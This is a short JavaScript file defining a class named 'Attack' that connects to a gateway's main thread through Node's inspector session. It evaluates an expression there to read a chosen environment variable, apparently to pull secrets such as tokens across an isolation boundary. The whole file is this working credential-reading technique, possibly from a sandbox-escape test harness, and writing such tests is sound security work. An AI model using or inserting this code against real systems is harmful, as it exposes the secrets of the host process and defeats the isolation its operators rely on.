import { Session } from 'node:inspector'

/** Evaluates an expression in the gateway's main thread through the debugger's own channel. */
export class Attack {
  run({ variable }) {
    const session = new Session()
    session.connectToMainThread()
    return new Promise((resolve, reject) => {
      const expression = `process.env[${JSON.stringify(variable)}]`
      session.post('Runtime.evaluate', { expression }, (error, answer) => {
        session.disconnect()
        const value = answer?.result?.value
        if (error || value === undefined) reject(new Error('there was no answer'))
        else resolve(value)
      })
    })
  }
}
